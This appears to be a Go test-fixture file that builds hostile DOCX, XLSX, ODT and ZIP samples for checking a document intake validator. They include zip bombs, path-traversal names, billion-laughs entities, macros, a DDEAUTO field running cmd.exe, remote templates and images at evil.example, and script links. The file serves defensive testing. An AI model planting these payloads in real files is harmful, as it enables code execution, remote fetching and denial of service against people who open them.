package intake

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"strings"
)

// patched changes a number in a file at a distance from a mark.
func patched(s, mark string, last bool, at int, with string) string {
	i := strings.Index(s, mark)
	if last {
		i = strings.LastIndex(s, mark)
	}
	return s[:i+at] + with + s[i+at+len(with):]
}

const (
	localMark     = "PK\x03\x04"
	directoryMark = "PK\x01\x02"
	endMark       = "PK\x05\x06"
)

// rawZIP packs files with headers that may lie: the sizes said and the flags.
func rawZIP(said int64, flags uint16, files ...file) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, f := range files {
		data := packed(f.text)
		data = data[2 : len(data)-4]
		w := must(z.CreateRaw(&zip.FileHeader{Name: f.name, Method: zip.Deflate, Flags: flags, UncompressedSize64: uint64(said), CompressedSize64: uint64(len(data))}))
		must(w.Write([]byte(data)))
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

// manyEntries is an archive of small files.
func manyEntries(n int) string {
	files := []file{{"[Content_Types].xml", contentTypes("word/document.xml", wordType, "")}}
	for i := range n {
		files = append(files, file{fmt.Sprintf("|%d", i), ""})
	}
	return makeZIP(files...)
}

// overlapping says of every entry that it lies where the first one does.
func overlapping() string {
	s := []byte(docx("x", file{"a.bin", strings.Repeat("\x00", 1<<20)}, file{"b.bin", strings.Repeat("\x00", 1<<20)}))
	target := binary.LittleEndian.Uint32(s[bytes.LastIndex(s, []byte(directoryMark))+42:])
	i := bytes.LastIndex(s[:bytes.LastIndex(s, []byte(directoryMark))], []byte(directoryMark))
	binary.LittleEndian.PutUint32(s[i+42:], target)
	return string(s)
}

// nestedBombs is an archive of archives of zeros.
func nestedBombs() string {
	inner := makeZIP(file{"0", strings.Repeat("\x00", 8<<20)})
	for range 3 {
		inner = makeZIP(file{"a.zip", inner}, file{"b.zip", inner}, file{"c.zip", inner})
	}
	return inner
}

// The office files that break the rules of archives, run, fetch or swell.
func hostileOffice() []hostile { return append(hostilePackages(), hostileOpen()...) }

func hostilePackages() []hostile {
	plain := docx("x")
	main := "word/document.xml"
	types := func(more string) string {
		return makeZIP(file{"[Content_Types].xml", contentTypes(main, wordType, more)}, file{main, "<x/>"})
	}
	lines := func(l string) string { return docx("", file{"word/_rels/document.xml.rels", rels(l)}) }
	external := `TargetMode="External"`
	laughs := `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><Types>&c;</Types>`
	zeros := strings.Repeat("\x00", 40<<20)
	return []hostile{
		{"an archive of anything", makeZIP(file{"a.txt", "b"}), "archive"},
		{"an empty archive", "PK\x05\x06" + strings.Repeat("\x00", 18), "archive"},
		{"archives in archives", nestedBombs(), "archive"},
		{"an archive of 10,001 files", manyEntries(10_000), "entries"},
		{"DOCX that swells", docx("", file{"word/media/a.bin", zeros}), "swells"},
		{"DOCX that swells more than it says", rawZIP(100, 0, file{"[Content_Types].xml", contentTypes(main, wordType, "") + strings.Repeat(" ", 1<<20)}), "broken"},
		{"DOCX with files that overlap", overlapping(), "broken"},
		{"DOCX with a name that climbs", docx("", file{"../../etc/passwd", "x"}), "broken"},
		{"DOCX with a name from the root", docx("", file{"/etc/passwd", "x"}), "broken"},
		{"DOCX with a name of Windows", docx("", file{`word\..\x`, "x"}), "broken"},
		{"DOCX with a name of a drive", docx("", file{"C:/x", "x"}), "broken"},
		{"DOCX with an empty part of a name", docx("", file{"word//x", "x"}), "broken"},
		{"DOCX with two files of one name", docx("", file{"word/a.xml", "<a/>"}, file{"word/A.xml", "<a/>"}), "broken"},
		{"DOCX with an encrypted file", rawZIP(10, 1, file{"[Content_Types].xml", "<x/>"}), "encrypted"},
		{"DOCX with another name in the header", patched(plain, localMark, true, 30, "word/documenu.xml"), "broken"},
		{"DOCX with another method in the header", patched(plain, localMark, false, 8, le16(0)), "broken"},
		{"DOCX with another size in the header", patched(plain, localMark, false, 22, le32(7)), "broken"},
		{"DOCX with another size in the directory", patched(plain, directoryMark, false, 24, le32(7)), "broken"},
		{"DOCX with another sum in the directory", patched(plain, directoryMark, false, 16, le32(7)), "broken"},
		{"DOCX with an unknown method", patched(plain, directoryMark, false, 10, le16(99)), "broken"},
		{"DOCX with fewer files than it says", patched(patched(plain, endMark, true, 8, le16(9)), endMark, true, 10, le16(9)), "broken"},
		{"DOCX with more files than it says", patched(patched(plain, endMark, true, 8, le16(1)), endMark, true, 10, le16(1)), "broken"},
		{"DOCX on two disks", patched(plain, endMark, true, 4, le16(1)), "broken"},
		{"DOCX with a directory elsewhere", patched(plain, endMark, true, 16, le32(3)), "broken"},
		{"DOCX with data behind it", plain + "MZ", "broken"},
		{"DOCX with two ends", plain + strings.Replace(plain[strings.LastIndex(plain, endMark):], "\x03\x00\x03\x00", "\x00\x00\x00\x00", 1), "broken"},
		{"DOCX without its main part", makeZIP(file{"[Content_Types].xml", contentTypes(main, wordType, "")}, file{"word/other.xml", "<x/>"}), "broken"},
		{"DOCX with two main parts", types(`<Override PartName="/xl/workbook.xml" ContentType="` + sheetType + `"/>`), "broken"},
		{"DOCX with entities", makeZIP(file{"[Content_Types].xml", laughs}, file{main, "<x/>"}), "entities"},
		{"DOCX with entities in its text", docx("", file{"word/styles.xml", laughs}), "entities"},
		{"DOCX with a tag of a megabyte", docx(`<w:t a="` + strings.Repeat("word ", 1<<15) + `"/>`), "broken"},
		{"DOCX with a tag within a tag", docx("<w:t <w:p>>"), "broken"},
		{"DOCX with a part that ends within a tag", docx("", file{"word/styles.xml", "<w:styles"}), "broken"},
		{"DOCX with a part of sixteen bits", docx("", file{"word/styles.xml", "\xff\xfe<\x00a\x00/\x00>\x00"}), "broken"},
		{"DOCX with a part of another coding", docx("", file{"word/styles.xml", `<?xml version="1.0" encoding="utf-7"?><a/>`}), "broken"},
		{"DOCX with a part that is no markup", docx("", file{"word/styles.xml", "binary"}), "broken"},
		{"DOCX with macros", docx("", file{"word/vbaProject.bin", "x"}), "macros"},
		{"DOCX with macros by type", types(`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`), "macros"},
		{"DOCX with macros by relation", lines(rel("vbaProject", "other.bin", "")), "macros"},
		{"a text with macros by its own type", office(main, "application/vnd.ms-word.document.macroEnabled.main+xml", "x"), "macros"},
		{"a sheet with old macros", xlsx("", file{"xl/macrosheets/sheet1.xml", "<x/>"}), "macros"},
		{"DOCX with an old object", docx("", file{"word/embeddings/x.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "objects"},
		{"DOCX with an object by name", docx("", file{"word/embeddings/oleObject1.bin", "x"}), "objects"},
		{"DOCX with an object by relation", lines(rel("oleObject", "embeddings/x.bin", "")), "objects"},
		{"DOCX with an object by tag", docx(`<o:OLEObject Type="Link"/>`), "objects"},
		{"DOCX with ActiveX", docx("", file{"word/activeX/activeX1.xml", "<x/>"}), "objects"},
		{"DOCX with PDF", docx("", file{"word/embeddings/x.bin", goodPDF()}), "objects"},
		{"DOCX with a program", docx("", file{"word/media/image1.png", exe()}), "hidden"},
		{"DOCX with an archive of another sort", docx("", file{"word/media/image1.png", hostile7z}), "hidden"},
		{"DOCX with a page", docx("", file{"word/part.bin", "<html><body/></html>"}), "hidden"},
		{"DOCX with a template from elsewhere", lines(rel("attachedTemplate", "https://evil.example/x.dotm", external)), "office_external"},
		{"DOCX with such a template, escaped", lines(rel("attachedTemplate", "https://evil.example/x.dotm", `TargetMode="&#69;xternal"`)), "office_external"},
		{"DOCX with a picture from elsewhere", lines(rel("image", "https://evil.example/x.png", external)), "office_external"},
		{"DOCX with a frame from elsewhere", lines(rel("frame", `\\evil\share`, external)), "office_external"},
		{"DOCX with a picture from elsewhere, unsaid", lines(rel("image", "https://evil.example/x.png", "")), "office_external"},
		{"DOCX with an old drawing from elsewhere", docx(`<v:imagedata src="https://evil.example/x.png"/>`), "office_external"},
		{"DOCX with a foreign part", lines(rel("aFChunk", "x.html", "")), "office_external"},
		{"DOCX with a link that runs", lines(rel("hyperlink", "java&#9;script:alert(1)", external)), "office_active"},
		{"DOCX with DDE", docx(`<w:p><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:p>`), "dde"},
		{"DOCX with DDE in pieces", docx(`<w:p><w:instrText>DD</w:instrText><w:r/><w:instrText>E cmd</w:instrText></w:p>`), "dde"},
		{"DOCX with DDE in a short field", docx(`<w:fldSimple w:instr="DDE cmd"/>`), "dde"},
		{"DOCX with DDE as character data", docx(`<w:p><w:instrText><![CDATA[DDE cmd]]></w:instrText></w:p>`), "dde"},
		{"DOCX that fetches a picture", docx(`<w:p><w:instrText>INCLUDEPICTURE "https://evil.example/x"</w:instrText></w:p>`), "office_external"},
		{"DOCX with a drawing that runs", docx("", file{"word/media/a.svg", `<svg><script>alert(1)</script></svg>`}), "office_active"},
		{"DOCX with a drawing that waits", docx("", file{"word/media/a.svg", `<svg><g onclick="alert(1)"/></svg>`}), "office_active"},
		{"DOCX with sheets in sheets", docx("", file{"word/embeddings/a.xlsx", xlsx("", file{"xl/embeddings/b.xlsx", xlsx("")})}), "nested"},
		{"DOCX with a large sheet", docx("", file{"|word/embeddings/a.xlsx", "PK\x03\x04" + strings.Repeat("x", 5<<20)}), "nested"},
		{"DOCX with a sheet with macros", docx("", file{"word/embeddings/a.xlsx", xlsx("", file{"xl/vbaProject.bin", "x"})}), "macros"},
		{"DOCX with a sheet that swells", docx("", file{"|word/embeddings/a.xlsx", xlsx("", file{"xl/a.bin", zeros})}), "swells"},
		{"a presentation", office("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", "x"), "office_form"},
		{"a template", office(main, "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "x"), "office_form"},
		{"XLSX with DDE", xlsx("", file{"xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>"}), "dde"},
		{"XLSX with another workbook", xlsx("", file{"xl/_rels/workbook.xml.rels", rels(rel("externalLink", "externalLinks/externalLink1.xml", ""))}), "office_external"},
		{"XLSX with a database", xlsx("", file{"xl/_rels/workbook.xml.rels", rels(rel("connections", "connections.xml", ""))}), "office_external"},
	}
}

func hostileOpen() []hostile {
	odt := func(body string) string { return openDocument("application/vnd.oasis.opendocument.text", body) }
	return []hostile{
		{"ODT with macros", openDocument("application/vnd.oasis.opendocument.text", "", file{"Basic/Standard/Module1.xml", "<x/>"}), "macros"},
		{"ODT with scripts", openDocument("application/vnd.oasis.opendocument.text", "", file{"Scripts/python/x.py", "x"}), "macros"},
		{"ODT with a handler", odt(`<script:event-listener xlink:href="vnd.sun.star.script:x"/>`), "macros"},
		{"ODT with an object", odt(`<draw:object-ole xlink:href="./Object 1"/>`), "objects"},
		{"ODT with a frame", odt(`<draw:floating-frame xlink:href="https://evil.example"/>`), "objects"},
		{"ODT with DDE", odt(`<text:dde-connection-decl office:dde-application="cmd"/>`), "dde"},
		{"ODT with a picture from elsewhere", odt(`<draw:image xlink:href="https://evil.example/x.png"/>`), "office_external"},
		{"ODT with a section from a file", odt(`<text:section-source xlink:href="../x.odt"/>`), "office_external"},
		{"ODT with a link that runs", odt(`<text:a xlink:href="vnd.sun.star.script:x"/>`), "office_active"},
		{"ODT that is encrypted", odt(`<manifest:encryption-data/>`), "encrypted"},
		{"ODT without content", makeZIP(file{"|mimetype", "application/vnd.oasis.opendocument.text"}, file{"meta.xml", "<x/>"}), "broken"},
		{"ODT with a packed mimetype", makeZIP(file{"mimetype", "application/vnd.oasis.opendocument.text"}, file{"content.xml", "<x/>"}), "broken"},
		{"an open presentation", openDocument("application/vnd.oasis.opendocument.presentation", ""), "office_form"},
		{"a book", openDocument("application/epub+zip", ""), "archive"},
	}
}
